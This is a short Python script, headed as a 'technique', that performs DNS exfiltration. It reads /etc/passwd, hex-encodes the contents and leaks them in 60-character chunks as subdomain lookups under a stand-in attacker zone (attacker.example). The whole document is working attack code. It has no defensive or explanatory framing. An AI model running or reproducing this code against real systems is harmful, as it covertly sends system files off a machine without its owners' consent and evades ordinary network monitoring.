# technique: DNS exfiltration: hex-encode a file and leak it in chunks as subdomain lookups under an attacker zone
import socket, binascii, time
data = open("/etc/passwd", "rb").read()
h = binascii.hexlify(data).decode()
sid = "%04x" % (int(time.time()) & 0xffff)
for i in range(0, len(h), 60):
    label = h[i:i+60]
    try:
        socket.gethostbyname("%s.%d.%s.x.attacker.example" % (label, i // 60, sid))
    except socket.gaierror:
        pass
